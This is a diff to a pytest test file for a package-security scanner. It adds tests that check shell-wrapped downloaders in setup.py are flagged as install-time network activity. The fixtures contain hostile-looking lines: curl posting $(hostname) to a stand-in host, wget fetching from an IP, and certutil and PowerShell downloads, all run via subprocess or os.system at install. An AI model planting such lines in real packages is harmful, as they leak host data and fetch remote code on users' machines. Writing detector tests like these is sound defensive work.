@@ -8,9 +8,10 @@ from pathlib import Path
 import pytest
 
 from caplet._findings import Severity
+from caplet._scan._commands import wrapped_programs
 from caplet._scan._model import ScanMode
 from caplet._scan._scanner import scan_source
-from tests._scan.prefilterkit import found_in_a_package
+from tests._scan.prefilterkit import found_in_a_package, found_in_file
 
 
 def danger(source: str) -> set[str]:
@@ -102,3 +103,61 @@ def test_a_download_run_from_a_memfd_is_found_with_the_prefilter_too(
 )
 def test_a_memfd_or_an_exec_without_a_download_is_not_a_download_run(source: str) -> None:
     assert "CPL-THR-002" not in danger(source)
+
+
+# -- recall17: a downloader wrapped in a shell ---------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("words", "programs"),
+    [
+        (["bash", "-c", "curl -s https://h.example/p -d $(hostname)"], ["curl", "hostname"]),
+        (
+            ["/bin/sh", "-ec", "X=1 sudo wget -q https://h.example/x && chmod +x x"],
+            ["wget", "chmod"],
+        ),
+        (["cmd.exe", "/c", "certutil", "-urlcache", "-f", "https://h.example/a"], ["certutil"]),
+        (["powershell", "-NoProfile", "-Command", "iwr https://h.example/a"], ["iwr"]),
+        (["bash", "script.sh"], []),
+        (["python", "-c", "import os"], []),
+    ],
+)
+def test_the_programs_a_shell_script_runs_are_read(words: list[str], programs: list[str]) -> None:
+    assert wrapped_programs(words) == programs
+
+
+WRAPPED_DOWNLOADS = [
+    "import subprocess\nfrom setuptools import setup\n"
+    'subprocess.call(["bash", "-c", "curl -s https://c.recall17.example/p -d $(hostname)"])\n'
+    'setup(name="x")\n',
+    "import os\nfrom setuptools import setup\n"
+    "os.system('bash -c \"curl -s https://c.recall17.example/p?h=$(hostname)\"')\n"
+    'setup(name="x")\n',
+    "import subprocess\nfrom setuptools import setup\n"
+    "subprocess.run(\"sh -c 'cd /tmp; wget -q http://198.51.100.2/i'\", shell=True)\n"
+    'setup(name="x")\n',
+]
+
+
+@pytest.mark.parametrize("source", WRAPPED_DOWNLOADS)
+def test_a_downloader_a_shell_runs_in_setup_py_is_install_time_network(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    findings = scan_source(source, "setup.py", mode=ScanMode.PACKAGE)
+    assert "CPL-THR-011" in {f.rule_id for f in findings if f.severity is Severity.DANGER}
+    found_in_file(tmp_path, monkeypatch, "setup.py", source, "CPL-THR-011")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a build through a shell, and a message that names curl
+        "import subprocess\nfrom setuptools import setup\n"
+        'subprocess.check_call(["bash", "-c", "make -j4 && make install PREFIX=build"])\n'
+        'subprocess.check_call(["sh", "-c", "echo curl is needed to fetch models later"])\n'
+        'setup(name="x")\n',
+    ],
+)
+def test_a_shell_in_setup_py_that_runs_no_downloader_is_not_network(source: str) -> None:
+    findings = scan_source(source, "setup.py", mode=ScanMode.PACKAGE)
+    assert "CPL-THR-011" not in {f.rule_id for f in findings}
